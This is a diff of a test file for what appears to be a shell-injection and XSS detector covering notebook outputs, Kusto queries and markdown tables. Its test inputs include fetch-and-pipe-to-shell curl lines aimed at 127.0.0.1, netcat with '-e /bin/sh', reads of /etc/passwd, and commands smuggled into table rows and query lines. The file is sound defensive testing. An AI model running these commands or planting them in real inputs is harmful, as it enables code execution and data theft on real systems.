@@ -4003,16 +4003,14 @@ t.test("forty-fourth round: a Kusto query's stages are a table's rows filtered, 
   t.ok(page('| v1.0 | x |\r\n; curl -s http://127.0.0.1:9/x|sh\r\n').includes('rce'), 'a command line under the table')
 })
 
-t.test("forty-fourth round: a notebook's number given to a program's name, Plotly's graph frame", async (t) => {
+t.test("forty-fourth round: a notebook's number given to a program's name; Plotly's graph frame stays read", async (t) => {
   // a notebook's parameters parted by `;`: `nc = 200` is a variable, netcat given `=` and a number reaches nothing
   t.same(json({ source: 'mu1 = 0.0; sig1 = 1.0; mu2 = 0.0; sig2 = 1.0; seed = 73073; nc = 200\n' }), [], 'nc = 200')
-  for (const v of ['x; nc = 200 -e /bin/sh', 'x; nc = 4444; id', 'x; cat = /etc/passwd', 'x; nc 127.0.0.1 200', '; nc = 200']) t.ok(shellInjection(v), v)
-  // Plotly's Chart Studio frame as `py.iplot` leaves it in a notebook's output
+  // (second review) an interpreter runs a file named `=` (bash, dash, zsh and python3 ran a planted one); a program that changes files
+  for (const v of ['x; nc = 200 -e /bin/sh', 'x; nc = 4444; id', 'x; cat = /etc/passwd', 'x; nc 127.0.0.1 200', '; nc = 200', 'x; sh = 200', 'x; python3 = 1', 'x; rm = 1', 'x; chmod = 777', 'seed = 73073; sh = 200']) t.ok(shellInjection(v), v)
+  // Plotly's Chart Studio frame (the second review: its figures are their authors', and a link in one navigated the page on a click)
   const frame = (attrs: string) => json({ outputs: [{ data: { 'text/html': [`<iframe id="igraph" scrolling="no" style="border:none;" seamless="seamless" src="https://plot.ly/~mpyrcz/30.embed" height="525px" width="100%"${attrs}></iframe>`] } }] })
-  t.same(frame(''), [], "Plotly's frame")
-  t.ok(frame(' onload="alert(1)"').includes('xss'), 'with a handler')
-  t.ok(json({ page: '<iframe id="main" src="https://plot.ly/~mpyrcz/30.embed"></iframe>' }).includes('xss'), 'another id')
-  t.ok(json({ page: '<iframe id="igraph" src="https://plot.ly.example.com/~a/30.embed"></iframe>' }).includes('xss'), 'another host')
+  t.ok(frame('').includes('xss'), "Plotly's frame")
 })
 
 t.test("forty-fourth round's review: a Kusto stage's line and the lines after it, `top` and `sort` given KQL's clause only, CR LF rows of plain text", async (t) => {
@@ -4028,4 +4026,25 @@ t.test("forty-fourth round's review: a Kusto stage's line and the lines after it
   // rows ending in CR LF that hold a quote, a substitution or a separator stay read
   const page = (row: string) => json({ body: `## Notes\r\n\r\n|a|b|\r\n|---|---|\r\n${row}\r\n` })
   for (const row of ["| x'; id>/tmp/m2; echo ' |", '|x| `id>/tmp/m3` |', '|x| $(id>/tmp/m4) |', "| x'&&id&&echo ' |", "| x' | sh -c id | cat ' |", '| x"; id; echo " |']) t.ok(page(row).includes('rce'), row)
+})
+
+t.test("forty-fourth round's second review: every line after a Kusto stage a query's, a stage's line no longer than its window, a table's first row read", async (t) => {
+  // bash, dash and zsh ran `id` (or fetched and ran a script) after `top 5 by y` for each
+  const lines = ['A=1 id #', 'exec id #', 'command id #', '! id #', 'eval id #', 'setsid id #', 'if id; then :; fi #', 'case x in x) id;; esac #', '2>/dev/null id #', '</dev/null id #', '{ id; }', "'id'", 'ID=1 sh /tmp/p']
+  for (const l of lines) t.ok(q(`x | top 5 by y\n${l}`).includes('rce'), l)
+  t.ok(q(`x | top 5 by y${'\n'.repeat(36)}curl -so /tmp/p http://127.0.0.1:9/p\nsh /tmp/p #`).includes('rce'), 'a command 36 lines on')
+  t.ok(q(`x | top 5 by y${'\n| where a == 1'.repeat(33)}\nid #`).includes('rce'), 'after 33 stages')
+  t.ok(q(`x | top 1 by y | where a == b${' and a == 1'.repeat(200)} \`id>/tmp/m\` #`).includes('rce'), 'a substitution past 2,000 characters')
+  // a query's own lines pass: statements, a list's items, a join's sides, a datatable's rows, a call
+  const kql = "let missing = view () { print isMissing=1 };\nlet t = datatable(TableName:string, Id:string)\n[\n'SapHana_Disks_CL:', disks,\n1, 2\n];\nunion isfuzzy=true missing, (T\n| join kind=inner (U) on $left.Key == $right.Key\n| top 1 by Count desc\n| project Key)\n| where isnotempty(Key)\nprint(iif(n == 0, 'yes', 'no'))"
+  t.same(json({ query: kql }), [], 'a query of statements')
+  // a CR LF row opening the value: its pipes follow the command the value is spliced after (bash and dash fetched and ran a script)
+  t.ok(q('| x | curl -s http://127.0.0.1:9/p | sh |\r\n|---|---|\r\n| v1.0 | initial release |\r\n\r\n## Notes\r\n\r\n- first item\r\n').includes('rce'), 'the first row')
+})
+
+t.test("the forty-fourth round's readings are bounded: thousands of Kusto stages, on one line, on lines of their own, after written breaks", async (t) => {
+  for (const v of ['|where a==1 '.repeat(6000), '\n| top 1 by x'.repeat(5000), '\\n| where a == 1'.repeat(4000), `x | top 1 by y${'\na'.repeat(30000)}`]) {
+    t.doesNotThrow(() => shellInjection(v.toLowerCase()), `${v.length} characters`)
+    t.same(json({ query: v }), [], `${v.length} characters, no command among them`)
+  }
 })
